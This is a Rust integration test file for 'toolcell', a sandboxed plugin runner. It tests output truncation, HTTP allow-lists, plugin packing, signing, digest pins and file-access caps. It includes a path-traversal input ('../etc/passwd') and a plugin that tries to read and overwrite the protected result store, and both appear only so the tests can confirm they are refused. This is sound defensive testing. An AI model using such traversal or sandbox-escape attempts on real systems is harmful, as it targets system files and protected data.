    assert_eq!(output.code, Some(0), "{output}");
    let shown = long_lines(2000);
    let notice = output
        .stdout
        .strip_prefix(shown.as_str())
        .unwrap_or_else(|| panic!("the first 2000 lines come first{output}"));
    let whole_bytes = long_lines(5000).len() - 1;
    let expected_start = format!(
        "[output cut: shown 2000 of 5000 lines, {} of {}; the whole output is result ",
        notice_bytes(shown.len()),
        notice_bytes(whole_bytes)
    );
    assert!(notice.starts_with(&expected_start), "{notice}");
    let id = notice[expected_start.len()..]
        .split(':')
        .next()
        .expect("an id")
        .to_string();
    let file = results.path().join(format!("{id}.txt"));
    assert_eq!(
        notice,
        format!(
            "{expected_start}{id}: `toolcell result {id}` prints it; it is in {}]\n",
            file.display()
        )
    );
    let whole = run(toolcell()
        .arg("result")
        .arg("--config")
        .arg(&config)
        .arg(&id));
    assert_eq!(whole.code, Some(0), "{whole}");
    assert_eq!(whole.stdout, long_lines(5000).trim_end());

    // A tool's own limit wins over the plugin's, which wins over the global one.
    let output = call(
        "max_lines = 1\n[plugins.long.output]\nmax_lines = 2\n[output.tools.long]\nmax_lines = 3\n",
    );
    assert!(
        output.stdout.starts_with(&format!(
            "{}[output cut: shown 3 of 5000 lines",
            long_lines(3)
        )),
        "{output}"
    );
    let output = call("[plugins.long.output]\nmax_bytes = 10\n");
    assert!(
        output
            .stdout
            .starts_with("line 1\nlin\n[output cut: shown 2 of 5000 lines, 10 bytes of "),
        "{output}"
    );

    let missing = run(toolcell()
        .arg("result")
        .arg("--config")
        .arg(&config)
        .arg("00000000-1"));
    assert_eq!(missing.code, Some(1), "{missing}");
    assert!(missing.stderr.contains("no result 00000000-1"), "{missing}");
    assert_eq!(
        run(toolcell().arg("result").arg("../etc/passwd")).usage_error(),
        "error: '../etc/passwd' is not a result id (they look like 0a1b2c3d-17)"
    );
}

#[test]
fn a_result_store_inside_the_file_root_is_out_of_the_plugins_reach() {
    let plugins = plugin_dir(&[
        ("long.lua", LONG_RESULT_PLUGIN),
        (
            "peek.lua",
            r#"clm.tool_register("peek", { invoke = function(args, ctx)
                local content, err = clm.read_file(args.path)
                local ok, werr = clm.write_file(args.path, "planted")
                ctx:complete(tostring(content) .. "|" .. tostring(err) .. "|" .. tostring(ok) .. "|" .. tostring(werr))
            end })"#,
        ),
    ]);
    let work = temp_dir();
    let config = work.path().join("config.toml");
    let inside = work.path().join("results");
    write(
        &config,
        format!(
            "[output]\nresults_dir = {:?}\n",
            inside.display().to_string()
        ),
    );
    let in_root = |tool: &str, args: &str| {
        run(toolcell()
            .arg("call")
            .arg("--config")
            .arg(&config)
            .arg("--root")
            .arg(work.path())
            .arg("--plugins")
            .arg(plugins.path())
            .arg(tool)
            .arg(args))
    };
    let output = in_root("long", "{}");
    assert_eq!(output.code, Some(0), "{output}");
    let id = output
        .stdout
        .split("the whole output is result ")
        .nth(1)
        .and_then(|rest| rest.split(':').next())
        .unwrap_or_else(|| panic!("the result was kept{output}"))
        .to_string();
    let path = format!("results/{id}.txt");
    let refused = |action: &str| {
        format!(
            "cannot {action} {path}: it lies inside the result store {}, which plugins may not read or change",
            inside.display()
        )
    };
    in_root("peek", &json!({ "path": path }).to_string()).assert_completed(&format!(
        "nil|{}|nil|{}",
        refused("read"),
        refused("write")
    ));
    let whole = run(toolcell()
        .arg("result")
        .arg("--config")
        .arg(&config)
        .arg(&id));
    assert_eq!(whole.stdout, long_lines(5000).trim_end(), "{whole}");
}

/// A byte count as the notice gives it: exact, and in KiB too when that is round.
fn notice_bytes(bytes: usize) -> String {
    if bytes.is_multiple_of(1024) {
        format!("{bytes} bytes ({} KiB)", bytes / 1024)
    } else {
        format!("{bytes} bytes")
    }
}

// ---------------------------------------------------------------------------------
// --allow-http
// ---------------------------------------------------------------------------------

const FETCH_PLUGIN: &str = r#"
clm.tool_register("fetch", {
  invoke = function(args, ctx)
    local resp, err = http.get(args.url)
    if resp == nil then return ctx:fail(err) end
    ctx:complete(resp.status .. " " .. resp.body)
  end,
})
"#;

#[test]
fn http_to_loopback_is_refused_by_policy_without_a_grant() {
    let plugins = plugin_dir(&[("fetch.lua", FETCH_PLUGIN)]);
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind a test HTTP server");
    let port = listener.local_addr().expect("local address").port();
    let url = format!("http://127.0.0.1:{port}/probe");
    let output = call(
        plugins.path(),
        "fetch",
        Some(&json!({ "url": url }).to_string()),
    );
    let message = output.failure();
    assert!(
        message.contains("refused by policy"),
        "the failure must say the policy refused it: {message}{output}"
    );
    listener
        .set_nonblocking(true)
        .expect("non-blocking listener");
    match listener.accept() {
        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
        Err(error) => panic!("accept failed: {error}"),
        Ok(_) => panic!("a refused request must not connect to the server{output}"),
    }
}

#[test]
fn allow_http_grants_a_host_and_a_host_with_port() {
    let plugins = plugin_dir(&[("fetch.lua", FETCH_PLUGIN)]);
    for grant in ["127.0.0.1", "127.0.0.1:PORT"] {
        let (port, requests) = serve_once();
        let grant = grant.replace("PORT", &port.to_string());
        let url = format!("http://127.0.0.1:{port}/probe");
        let output = run(toolcell()
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("--allow-http")
            .arg(&grant)
            .arg("fetch")
            .arg(json!({ "url": url }).to_string()));
        output.assert_completed("200 canned-payload");
        let request = requests
            .recv_timeout(Duration::from_secs(30))
            .expect("the server saw the request");
        assert!(
            request.starts_with("GET /probe "),
            "--allow-http {grant}: unexpected request {request:?}"
        );
    }
}

// ---------------------------------------------------------------------------------
// Artifacts: pack, inspect, check, sign / verify / keygen, digest pins, --files
// ---------------------------------------------------------------------------------

/// A plugin with a greeting tool and a tool that writes a file.
const GREETER: &str = r#"
clm.tool_register("greet", { description = "Greets someone", invoke = function(args, ctx)
  ctx:complete("Hello, " .. tostring(args.name) .. "!")
end })
clm.tool_register("scribble", { invoke = function(args, ctx)
  local ok, err = clm.write_file("scribble.txt", "x")
  if not ok then return ctx:fail(err) end
  ctx:complete("scribbled")
end })
"#;

/// `toolcell ARGS...`, run to completion.
fn toolcell_run(args: &[&str]) -> Run {
    run(toolcell().args(args))
}

fn path_str(path: &Path) -> &str {
    path.to_str().expect("UTF-8 temp paths")
}

/// Packs `script` (written as `NAME.lua` in a fresh directory) into `dist/NAME.wasm`.
fn packed_plugin(name: &str, script: &str) -> (TempDir, PathBuf) {
    let dir = temp_dir();
    let source = dir.path().join(format!("{name}.lua"));
    write(&source, script);
    let output = dir.path().join("dist").join(format!("{name}.wasm"));
    fs::create_dir_all(output.parent().expect("a parent")).expect("mkdir dist");
    let packed = toolcell_run(&["pack", path_str(&source), "-o", path_str(&output)]);
    assert_eq!(packed.code, Some(0), "pack must succeed{packed}");
    (dir, output)
}

#[test]
fn a_packed_lua_plugin_is_one_file_that_calls_like_the_script() {
    let (dir, wasm) = packed_plugin("greeter", GREETER);
    let bytes = fs::read(&wasm).expect("the artifact exists");
    let digest = toolcell::cache::sha256_hex(&bytes);
    let packed = toolcell_run(&[
        "pack",
        path_str(&dir.path().join("greeter.lua")),
        "-o",
        path_str(&wasm),
    ]);
    assert_eq!(
        packed.stdout,
        format!(
            "packed greeter 0.0.0 into {} ({} bytes, sha256 {digest})\n",
            wasm.display(),
            bytes.len()
        ),
        "{packed}"
    );
    // Only the .wasm is in dist/: the script travels inside it.
    let dist = wasm.parent().expect("dist");
    call(dist, "greet", Some(r#"{"name":"dist"}"#)).assert_completed("Hello, dist!");
}

#[test]
fn pack_loads_the_plugin_first_and_writes_nothing_when_it_fails() {
    let dir = temp_dir();
    let cases = [
        (
            "broken",
            "clm.tool_register(\"t\", { invoke = function(_, ctx) ctx:complete(\"x\") end })\nerror(\"not yet\")\n",
            "error[load_failed] plugin broken.wasm failed to load: broken.lua:2: not yet",
        ),
        (
            "schema",
            r#"clm.tool_register("s", { params_schema = { type = "object", properties = { n = { minimum = "one" }, m = { type = "text" } } }, invoke = function(_, ctx) ctx:complete("x") end })"#,
            "error[tool_rejected] tool 's' of plugin schema.wasm has an invalid schema and is \
             not registered: at `/properties/m/type` in the schema: ",
        ),
    ];
    for (name, script, expected) in cases {
        let source = dir.path().join(format!("{name}.lua"));
        write(&source, script);
        let output = toolcell_run(&["pack", path_str(&source)]);
        assert_eq!(output.code, Some(1), "{output}");
        assert_eq!(output.stdout, "", "{output}");
        let wasm = dir.path().join(format!("{name}.wasm"));
        assert_eq!(
            output.stderr.lines().collect::<Vec<_>>(),
            [
                output.stderr.lines().next().unwrap_or_default(),
                &format!(
                    "error: {} was not written: loading the plugin reported 1 error (see above)",
                    wasm.display()
                )
            ],
            "{output}"
        );
        assert!(output.stderr.starts_with(expected), "{output}");
        assert!(!wasm.exists(), "nothing is written{output}");
        // --no-check writes it anyway, for a plugin that only loads where it will run.
        let output = toolcell_run(&["pack", "--no-check", path_str(&source)]);
        assert_eq!(output.code, Some(0), "{output}");
        assert!(wasm.is_file(), "{output}");
    }
    // Both schema problems are listed, not only the first.
    let output = toolcell_run(&["pack", path_str(&dir.path().join("schema.lua"))]);
    output.assert_stderr_line(&[
        "at `/properties/m/type` in the schema",
        "; at `/properties/n/minimum` in the schema: \"one\" is not of type \"number\"",
    ]);
}

#[test]
fn a_first_compilation_says_so_on_stderr() {
    let cache = temp_dir();
    let plugins = plugin_dir(&[("hello.lua", HEALTHY_PLUGIN)]);
    let run_once = || {
        run(toolcell()
            .env("TOOLCELL_CACHE_DIR", cache.path())
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("healthy"))
    };
    let first = run_once();
    first.assert_completed("healthy answer");
    first.assert_stderr_line(&["compiling the Lua runtime (first run, about ", " s)"]);
    let second = run_once();
    second.assert_completed("healthy answer");
    assert!(
        !second.stderr.contains("compiling"),
        "the cached code is not compiled again{second}"
    );
}

#[test]
fn pack_takes_the_sidecar_manifest_and_writes_beside_the_script() {
    let dir = temp_dir();
    let source = dir.path().join("greeter.lua");
    write(&source, GREETER);
    write(
        &dir.path().join("greeter.lua.toml"),
        "id = \"greeter-pro\"\nversion = \"2.0.1\"\ndescription = \"Greets\"\n\
         [capabilities]\nfiles = \"read-only\"\n",
    );
    let packed = toolcell_run(&["pack", path_str(&source)]);
    assert_eq!(packed.code, Some(0), "{packed}");
    let wasm = dir.path().join("greeter.wasm");
    assert!(wasm.is_file(), "NAME.wasm beside NAME.lua{packed}");
    let inspected = toolcell_run(&["inspect", "--json", path_str(&wasm)]);
    assert_eq!(inspected.code, Some(0), "{inspected}");
    let report: Value = serde_json::from_str(&inspected.stdout).expect("JSON");
    assert_eq!(report["manifest"]["id"], "greeter-pro");
    assert_eq!(report["manifest"]["version"], "2.0.1");
    assert_eq!(report["manifest"]["capabilities"]["files"], "read-only");
    assert_eq!(report["manifest"]["capabilities"]["http"], "none");
    assert_eq!(report["kind"], "packed Lua plugin");
    assert_eq!(
        report["sha256"],
        toolcell::cache::sha256_hex(&fs::read(&wasm).expect("read"))
    );
    assert_eq!(
        report["wit"]["package"],
        format!("toolcell:plugin@{}", toolcell::wit_version::WIT_VERSION)
    );
    assert_eq!(report["wit"]["compatible"], true);
    let tools: Vec<&str> = report["tools"]
        .as_array()
        .expect("tools")
        .iter()
        .map(|tool| tool["name"].as_str().expect("a name"))
        .collect();
    assert_eq!(tools, ["greet", "scribble"]);
    // The manifest inside is enforced: the packed plugin, alone, may only read.
    let dist = dir.path().join("dist");
    fs::create_dir_all(&dist).expect("mkdir dist");
    fs::rename(&wasm, dist.join("greeter.wasm")).expect("move the artifact");
    let root = temp_dir();
    let output = run(toolcell()
        .args(["call", "--plugins", path_str(&dist), "--root"])
        .arg(root.path())
        .arg("scribble"));
    let message = output.failure();
    assert!(
        message.contains("plugin 'greeter-pro' may only read files"),
        "{output}"
    );
    assert!(!root.path().join("scribble.txt").exists());
}

#[test]
fn inspect_prints_id_version_tools_capabilities_wit_and_digest() {
    let (_dir, wasm) = packed_plugin("greeter", GREETER);
    let digest = toolcell::cache::sha256_hex(&fs::read(&wasm).expect("read"));
    let output = toolcell_run(&["inspect", path_str(&wasm)]);
    assert_eq!(output.code, Some(0), "{output}");
    for line in [
        format!("sha256:       {digest}"),
        "kind:         packed Lua plugin".to_string(),
        "id:           greeter".to_string(),
        "version:      0.0.0".to_string(),
        "  http:       any host".to_string(),
        "  files:      read-write".to_string(),
        format!(
            "wit:          toolcell:plugin@{0} (this toolcell: {0}, compatible)",
            toolcell::wit_version::WIT_VERSION
        ),
        "signatures:   none".to_string(),
        "  greet     Greets someone".to_string(),
    ] {
        assert!(
            output.stdout.lines().any(|printed| printed == line),
            "missing line {line:?}{output}"
        );
    }
    assert_eq!(output.stderr, "", "{output}");
}

#[test]
fn check_reports_problems_with_codes_and_fails_only_on_errors() {
    let plugins = plugin_dir(&[
        ("a_good.lua", GREETER),
        ("b_twin.lua", GREETER),
        ("c_bad.lua", GREETER),
        ("c_bad.lua.toml", "[capabilities]\nfiles = \"everything\"\n"),
        ("d_junk.wasm", "\0asm not a component"),
    ]);
    let output = toolcell_run(&["check", path_str(plugins.path())]);
    assert_eq!(output.code, Some(1), "errors exit 1{output}");
    let lines: Vec<&str> = output.stdout.lines().collect();
    assert!(
        lines[0].starts_with("error[tool_collision] tool 'greet' of plugin b_twin.lua"),
        "{output}"
    );
    assert!(
        lines[1].starts_with("error[tool_collision] tool 'scribble'"),
        "{output}"
    );
    assert!(
        lines[2].starts_with(
            "error[manifest_invalid] plugin c_bad.lua was refused: its manifest c_bad.lua.toml"
        ),
        "{output}"
    );
    assert!(
        lines[3].starts_with("error[load_failed] plugin d_junk.wasm failed to load"),
        "{output}"
    );
    // The twin's tools stay registered, reachable by their paths.
    assert_eq!(
        lines[4], "2 plugins loaded, 4 tools; 4 errors, 0 warnings",
        "{output}"
    );
    assert_eq!(lines.len(), 5, "{output}");

    // Warnings only: exit 0.
    let plugins = plugin_dir(&[("a_good.lua", GREETER)]);
    let output = toolcell_run(&["check", "--files", "read-only", path_str(plugins.path())]);
    assert_eq!(output.code, Some(0), "warnings exit 0{output}");
    assert!(
        output.stdout.starts_with("warning[capability_denied] plugin a_good.lua: its manifest asks for files = \"read-write\""),
        "{output}"
    );
    assert!(
        output
            .stdout
            .ends_with("1 plugin loaded, 2 tools; 0 errors, 1 warning\n"),
        "{output}"
    );

    let missing = toolcell_run(&["check", "/nonexistent/toolcell-plugins"]);
    assert!(
        missing.usage_error().contains("does not exist"),
        "{missing}"
    );
}

#[test]
fn keygen_sign_and_verify_and_a_trust_policy_that_refuses_unsigned_plugins() {
    let (dir, wasm) = packed_plugin("greeter", GREETER);
    let key = dir.path().join("key.pem");
    let generated = toolcell_run(&["keygen", "-o", path_str(&key)]);
    assert_eq!(generated.code, Some(0), "{generated}");
    let public = generated.stdout.trim().to_string();
    assert_eq!(public.len(), 44, "a base64 Ed25519 key{generated}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(&key)
            .expect("the key exists")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "the secret key is private");
    }
    let again = toolcell_run(&["keygen", "-o", path_str(&key)]);
    assert!(again.usage_error().contains("never overwrites"), "{again}");

    let unsigned = dir.path().join("unsigned").join("greeter.wasm");
    fs::create_dir_all(unsigned.parent().expect("a parent")).expect("mkdir");
    fs::copy(&wasm, &unsigned).expect("copy");
    let signed = toolcell_run(&["sign", "--key", path_str(&key), path_str(&wasm)]);
    assert_eq!(
        signed.stdout,
        format!("signed {} with key {public}\n", wasm.display()),
        "{signed}"
    );

    let verified = toolcell_run(&["verify", "--key", &public, path_str(&wasm)]);
    assert_eq!(verified.code, Some(0), "{verified}");
    assert!(
        verified.stdout.contains("signed by trusted key"),
        "{verified}"
    );
    let other = temp_dir();
    let other_key = other.path().join("other.pem");
    let other_public = toolcell_run(&["keygen", "-o", path_str(&other_key)]).stdout;
    let untrusted = toolcell_run(&["verify", "--key", other_public.trim(), path_str(&wasm)]);
    assert_eq!(untrusted.code, Some(1), "{untrusted}");
    assert!(untrusted.stdout.contains("not trusted"), "{untrusted}");
    let not_signed = toolcell_run(&["verify", "--key", &public, path_str(&unsigned)]);
    assert_eq!(not_signed.code, Some(1), "{not_signed}");
    assert!(not_signed.stdout.contains("not signed"), "{not_signed}");
    let no_keys = toolcell_run(&["verify", path_str(&wasm)]);
    assert!(
        no_keys.usage_error().contains("no trusted keys"),
        "{no_keys}"
    );

    let config = dir.path().join("trust.toml");
    write(
        &config,
        format!("[trust]\nkeys = [\"{public}\"]\nunsigned = \"refuse\"\n"),
    );
    let dist = wasm.parent().expect("dist");
    let trusted = run(toolcell()
        .args([
            "call",
            "--config",
            path_str(&config),
            "--plugins",
            path_str(dist),
        ])
        .args(["greet", r#"{"name":"signed"}"#]));
    trusted.assert_completed("Hello, signed!");
    let refused = run(toolcell()
        .args(["call", "--config", path_str(&config), "--plugins"])
        .arg(unsigned.parent().expect("dir"))
        .args(["greet", "{}"]));
    assert_eq!(refused.code, Some(2), "{refused}");
    refused.assert_stderr_line(&["greeter.wasm", "was refused", "not signed"]);
}

#[test]
fn digest_pins_and_lock_files_refuse_changed_plugins() {
    let (dir, wasm) = packed_plugin("greeter", GREETER);
    let dist = wasm.parent().expect("dist");
    let digest = toolcell::cache::sha256_hex(&fs::read(&wasm).expect("read"));
    let pinned = run(toolcell()
        .args([
            "call",
            "--plugins",
            path_str(dist),
            "--require-sha256",
            &digest,
        ])
        .args(["greet", r#"{"name":"pinned"}"#]));
    pinned.assert_completed("Hello, pinned!");
    let wrong = run(toolcell()
        .args([
            "call",
            "--plugins",
            path_str(dist),
            "--require-sha256",
            &"ab".repeat(32),
        ])
        .args(["greet", "{}"]));
    assert_eq!(wrong.code, Some(2), "{wrong}");
    wrong.assert_stderr_line(&["greeter.wasm", "was refused", &digest]);
    let malformed = run(toolcell().args([
        "call",
        "--plugins",
        path_str(dist),
        "--require-sha256",
        "abc",
        "greet",
    ]));
    assert!(
        malformed.usage_error().contains("--require-sha256"),
        "{malformed}"
    );

    // A lock file as sha256sum writes it; then the artifact changes.
    let lock = dir.path().join("toolcell.lock");
    write(&lock, format!("{digest}  dist/greeter.wasm\n"));
    let locked = run(toolcell()
        .args([
            "call",
            "--plugins",
            path_str(dist),
            "--lock",
            path_str(&lock),
        ])
        .args(["greet", r#"{"name":"locked"}"#]));
    locked.assert_completed("Hello, locked!");
    let (_other, replacement) = packed_plugin("greeter", &GREETER.replace("Hello", "Hi"));
    fs::copy(&replacement, &wasm).expect("replace the artifact");
    let changed = run(toolcell()
        .args([
            "call",
            "--plugins",
            path_str(dist),
            "--lock",
            path_str(&lock),
        ])
        .args(["greet", "{}"]));
    assert_eq!(changed.code, Some(2), "{changed}");
    changed.assert_stderr_line(&["greeter.wasm", "was refused", "pins"]);
}

#[test]
fn the_files_flag_caps_file_access_for_every_plugin() {
    let plugins = plugin_dir(&[("greeter.lua", GREETER)]);
    let root = temp_dir();
    let output = run(toolcell()
        .args([
            "call",
            "--files",
            "read-only",
            "--plugins",
            path_str(plugins.path()),
        ])
        .arg("--root")
        .arg(root.path())
        .arg("scribble"));
    let message = output.failure();
    assert!(message.contains("cannot write scribble.txt"), "{output}");
    assert!(message.contains("--files read-write"), "{output}");
    assert!(!root.path().join("scribble.txt").exists());
    let bad = toolcell_run(&["call", "--files", "all", "greet"]);
    assert_eq!(bad.code, Some(2), "{bad}");
}

#[test]
fn the_prepared_lua_runtime_is_kept_in_the_code_cache_and_used_by_later_runs() {
    // A cache of its own, so this run is the one that prepares the Lua runtime.
    let cache = temp_dir();
    let plugins = plugin_dir(&[
        (
            "counter.lua",
            r#"
count = 0
clm.tool_register("bump", { invoke = function(args, ctx)
  count = count + 1
  string.bumped = true
  ctx:complete(tostring(count))
end })
"#,
        ),
        (
            "probe.lua",
            r#"
clm.tool_register("look", { invoke = function(args, ctx)
  ctx:complete(tostring(count) .. " " .. tostring(string.bumped) .. " " .. clm.config.greeting)
end })
"#,
        ),
    ]);
    let config = temp_dir();
    let config_file = config.path().join("toolcell.toml");
    write(&config_file, "[tools.probe]\ngreeting = \"hi\"\n");
    let call_with_cache = |tool: &str| {
        run(toolcell()
            .env("TOOLCELL_CACHE_DIR", cache.path())
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("--config")
            .arg(&config_file)
            .arg(tool))
    };
    call_with_cache("bump").assert_completed("1");
    let entry = cache.path().join(prepared_entry(cache.path()));
    let modified = fs::metadata(&entry)
        .and_then(|m| m.modified())
        .expect("mtime");
    // The next run starts from the cached snapshot: every plugin gets its own copy of
    // the prepared state (nothing the first plugin changed shows in the second), and
    // the per-plugin parts (here `clm.config`) are filled in at load.
    call_with_cache("look").assert_completed("nil nil hi");
    call_with_cache("bump").assert_completed("1");
    let again = fs::metadata(&entry)
        .and_then(|m| m.modified())
        .expect("mtime");
    assert_eq!(
        modified, again,
        "the cached snapshot is read, not written again"
    );
}

// ---------------------------------------------------------------------------------
// toolcell new: plugin projects to start from (the builds of the Rust, JavaScript and
// Python projects are tested in tests/tests/languages.rs)
// ---------------------------------------------------------------------------------

/// `toolcell new ARGS...` run in `dir`.
fn new_in(dir: &Path, args: &[&str]) -> Run {
    run(toolcell().current_dir(dir).arg("new").args(args))
}

#[test]
fn new_writes_a_lua_project_whose_test_passes_and_that_packs() {
    let parent = temp_dir();
    let output = new_in(parent.path(), &["greeter"]);
    assert_eq!(output.code, Some(0), "{output}");
    assert_eq!(
        output.stdout.lines().take(8).collect::<Vec<_>>(),
        [
            "created Lua plugin 'greeter' in greeter:",
            "  greeter.lua",
            "  greeter.lua.toml",
            "  types/clm.lua",
            "  .luarc.json",
            "  test.sh",
            "  README.md",
            "  .gitignore",
        ],
        "{output}"
    );
    let project = parent.path().join("greeter");
    // The definitions are the repository's.
    assert_eq!(
        fs::read_to_string(project.join("types/clm.lua")).expect("types/clm.lua"),
        toolcell::scaffold::LUA_DEFINITIONS
    );
    let test = run(Command::new(project.join("test.sh"))
        .env("TOOLCELL", TOOLCELL)
        .env("TOOLCELL_CACHE_DIR", cache_dir()));
    assert_eq!(test.code, Some(0), "{test}");
    assert_eq!(
        test.stdout,
        "1 plugin loaded, 1 tool; 0 errors, 0 warnings\nok: greeter {\"name\":\"world\"}\n",
        "{test}"
    );
    let check = run(toolcell().arg("check").arg(&project));
    assert_eq!(check.code, Some(0), "{check}");
    let packed = run(toolcell().current_dir(&project).args([
        "pack",
        "greeter.lua",
        "-o",
        "dist/greeter.wasm",
    ]));
    assert_eq!(packed.code, Some(0), "{packed}");
    call(&project.join("dist"), "greeter", Some(r#"{"name":"dist"}"#))
        .assert_completed("Hello, dist!");
    // The manifest beside the script names the plugin.
    let listed = run(toolcell().arg("list").arg("--plugins").arg(&project));
    assert!(listed.stdout.contains("greeter"), "{listed}");
}

#[test]
fn new_writes_the_files_each_language_builds_from() {
    let parent = temp_dir();
    let checkout = Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("the workspace");
    for (lang, files) in [
        (
            "rust",
            &[
                "Cargo.toml",
                "src/lib.rs",
                "toolcell.toml",
                "test.sh",
                "README.md",
            ][..],
        ),
        (
            "js",
            &["plugin.js", "toolcell.toml", "test.sh", "README.md"][..],
        ),
        (
            "python",
            &["app.py", "toolcell.toml", "test.sh", "README.md"][..],
        ),
    ] {
        let name = format!("p-{lang}");
        let output = new_in(parent.path(), &[&name, "--lang", lang]);
        assert_eq!(output.code, Some(0), "{output}");
        let project = parent.path().join(&name);
        for file in files {
            assert!(project.join(file).is_file(), "{lang}: no {file}{output}");
        }
        let manifest = fs::read_to_string(project.join("toolcell.toml")).expect("manifest");
        assert!(manifest.contains(&format!("id = \"{name}\"")), "{manifest}");
    }
    let cargo = fs::read_to_string(parent.path().join("p-rust/Cargo.toml")).expect("Cargo.toml");
    for part in [
        "[lib]\ncrate-type = [\"cdylib\"]",
        &format!(
            "toolcell-guest = {{ path = \"{}\" }}",
            checkout.join("guest-sdk").display()
        ),
        "\n[workspace]\n",
    ] {
        assert!(cargo.contains(part), "expected {part:?} in\n{cargo}");
    }
    assert!(
        fs::read_to_string(parent.path().join("p-js/plugin.js"))
            .expect("plugin.js")
            .contains("export const guest = plugin(")
    );
    let test = fs::read_to_string(parent.path().join("p-python/test.sh")).expect("test.sh");
    for part in [
        &format!("src=${{TOOLCELL_SRC:-{}}}", checkout.display()),
        "\"$src/tools/build-python-plugin\" . dist/p-python.wasm",
    ] {
        assert!(test.contains(part), "expected {part:?} in\n{test}");
    }
}

#[test]
fn new_takes_another_checkout_and_refuses_what_it_cannot_write() {
    let parent = temp_dir();
    let checkout = temp_dir();
    write(&checkout.path().join("guest-sdk/Cargo.toml"), "[package]\n");
    let output = new_in(
        parent.path(),
        &[
            "elsewhere",
            "--lang",
            "rust",
            "--toolcell-src",
            path_str(checkout.path()),
        ],
    );
    assert_eq!(output.code, Some(0), "{output}");
    let dependency = format!(
        "toolcell-guest = {{ path = \"{}\" }}",
        checkout.path().join("guest-sdk").display()
    );
    assert!(
        output.stdout.contains(&format!("Cargo.toml: {dependency}")),
        "{output}"
    );

    for (args, expected) in [
        (
            &["Greeter"][..],
            "error: 'Greeter' cannot be a plugin name: use 1 to 64 characters of a-z, 0-9, '-' \
             and '_', starting with a letter",
        ),
        (
            &["elsewhere"][..],
            "error: elsewhere already exists and is not empty; choose another name or --output",
        ),
        (
            &["x", "--toolcell-src", "/"][..],
            "error: / is not a toolcell source checkout (it has no guest-sdk/Cargo.toml)",
        ),
    ] {
        let line = new_in(parent.path(), args).usage_error();
        assert_eq!(line, expected);
    }
    let output = new_in(parent.path(), &["x", "--lang", "cobol"]);
    assert_eq!(output.code, Some(2), "{output}");
    output.assert_stderr_line(&["invalid value 'cobol'"]);
    output.assert_stderr_line(&["[possible values: lua, rust, js, python]"]);
}

#[test]
fn the_lua_examples_and_a_new_lua_project_type_check_clean() {
    let parent = temp_dir();
    assert_eq!(new_in(parent.path(), &["typed"]).code, Some(0));
    let examples = Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("the workspace")
        .join("examples/plugins");
    for dir in [parent.path().join("typed"), examples] {
        let output = Command::new("emmylua_check")
            .arg("--warnings-as-errors")
            .arg(&dir)
            .output()
            .unwrap_or_else(|error| {
                panic!("emmylua_check is not installed ({error}); run tools/bootstrap")
            });
        let text = String::from_utf8_lossy(&output.stdout);
        assert!(
            output.status.success() && text.contains("No issues found"),
            "emmylua_check {}:\n{text}{}",
            dir.display(),
            String::from_utf8_lossy(&output.stderr)
        );
    }
}

#[test]
fn the_fetch_example_reports_each_url_and_each_failure_on_its_own_line() {
    let examples = Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("the workspace")
        .join("examples/plugins");
    let (first, _) = serve_once();
    let (second, _) = serve_once();
    // A port nobody listens on: bind one, then let it go.
    let closed = TcpListener::bind("127.0.0.1:0")
        .and_then(|listener| listener.local_addr())
        .expect("a free port")
        .port();
    let urls = [
        format!("http://127.0.0.1:{first}/a"),
        format!("http://127.0.0.1:{closed}/b"),
        format!("http://127.0.0.1:{second}/c"),
    ];
    let output = run(toolcell()
        .arg("call")
        .arg("--plugins")
        .arg(&examples)
        .args(["--allow-http", "127.0.0.1"])
        .arg("fetch_all")
        .arg(json!({ "urls": urls }).to_string()));
    output.assert_completed(&format!(
        "{}: 200, 14 bytes\n{}: failed: connection failed: 127.0.0.1:{closed} refused the \
         connection\n{}: 200, 14 bytes",
        urls[0], urls[1], urls[2]
    ));
}
